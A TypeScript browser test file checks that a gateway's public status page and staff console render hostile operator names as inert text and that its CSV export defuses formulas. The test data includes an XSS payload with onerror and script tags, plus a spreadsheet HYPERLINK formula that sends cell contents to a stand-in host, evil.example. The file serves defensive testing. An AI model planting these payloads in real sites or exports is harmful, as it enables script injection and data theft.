/**
 * Hostile names reach the people's pages as text (issue 11, hostile-input catalogue):
 * markup in a pasted assertion on the public status page, and in an operator's name in
 * the staff console, is shown as the characters it is, runs no script and makes no
 * element; a name that is a spreadsheet formula leaves the console's CSV download defused.
 */
import { readFileSync } from 'node:fs';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mintDevStaffToken } from '../../src/staff/dev-issuer.ts';
import { launchChromium, openPage, screenshot } from '../support/browser.ts';
import { euBatch, euKey, euMid, sendAndWait } from '../support/eu-operators.ts';
import { startTestGateway, type TestGateway } from '../support/gateway.ts';

const markup = '<img src=x onerror="window.pwned=1"><script>window.pwned=2</script> Bad & Co';
const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const xmlText = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');
const scripted = { n: 41, name: xmlText(markup), mids: [euMid({ n: 41 })] };
const spreadsheet = { n: 42, name: xmlText(formula), mids: [euMid({ n: 42 })] };

let gw: TestGateway;
let browser: Browser;

beforeAll(async () => {
  [gw, browser] = await Promise.all([startTestGateway({ store: 'PostgreSQL', env: { MRAGW_DEV_STAFF: '1' } }), launchChromium()]);
  await sendAndWait(gw, euBatch({ batchId: 'S1', sequence: 1, kind: 'SNAPSHOT', operators: [scripted, spreadsheet] }));
  await mintDevStaffToken(gw.dataDir, { subject: 'admin.hostile', roles: ['admin'], ttlSeconds: 600 });
}, 90_000);
afterAll(async () => {
  await browser?.close();
  await gw?.close();
});

/** What a name with markup must not have done on `page`: run a script, or make an element. */
async function expectInert(page: Page): Promise<void> {
  expect(await page.evaluate(() => (globalThis as { pwned?: number }).pwned)).toBeUndefined();
  expect(await page.locator('img[src="x"], main script').count()).toBe(0);
}

describe('names with markup and formulas', () => {
  it('the status page shows a pasted assertion that carries markup as text, and runs nothing', async () => {
    const { page, errors } = await openPage(browser);
    await page.goto(`${gw.url}/status/`);
    // Anonymous look-ups disclose no name, so markup can reach this page only in an assertion someone pastes.
    const header = Buffer.from(JSON.stringify({ alg: 'ES256', kid: 'x', typ: 'mra-status+jwt' })).toString('base64url');
    const payload = Buffer.from(JSON.stringify({ iss: 'US-CBP-TEST', sub: `eu-aeo:${markup}`, programme: markup, status: markup, iat: 1, exp: 2 })).toString('base64url');
    await page.fill('#assertion', `${header}.${payload}.${'A'.repeat(86)}`);
    await page.click('#paste-button');
    const region = page.locator('#paste-result');
    await region.locator('.result, .message').waitFor();
    expect(await region.innerText()).toContain('Signature NOT verified.');
    expect(await region.innerText()).toContain(markup);
    await expectInert(page);
    await screenshot(page, 'status-hostile-assertion');
    expect(errors).toEqual([]);
  });

  it('the console shows the name as text in its tables, and its CSV download defuses the formula', async () => {
    const { page, errors } = await openPage(browser);
    page.setDefaultTimeout(15_000);
    await page.goto(`${gw.url}/console/`);
    await page.getByLabel('Subject').fill('admin.hostile');
    await page.getByLabel('Role').selectOption('admin');
    await page.getByRole('button', { name: 'Development sign-in' }).click();
    await page.getByRole('link', { name: 'Recognitions' }).click();
    const row = page.getByRole('row').filter({ hasText: euKey(scripted) });
    await row.waitFor();
    expect(await row.innerText()).toContain(markup);
    await expectInert(page);
    await screenshot(page, 'console-hostile-name');

    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download CSV: Recognitions' }).click()]);
    const csv = readFileSync((await download.path())!, 'utf8');
    const line = csv.split('\r\n').find((l) => l.includes(euKey(spreadsheet)))!;
    // The apostrophe makes a spreadsheet take the cell as text; the quotes are CSV's own (RFC 4180).
    expect(line).toContain(`"'${formula.replaceAll('"', '""')}"`);
    expect(errors).toEqual([]);
  });
});
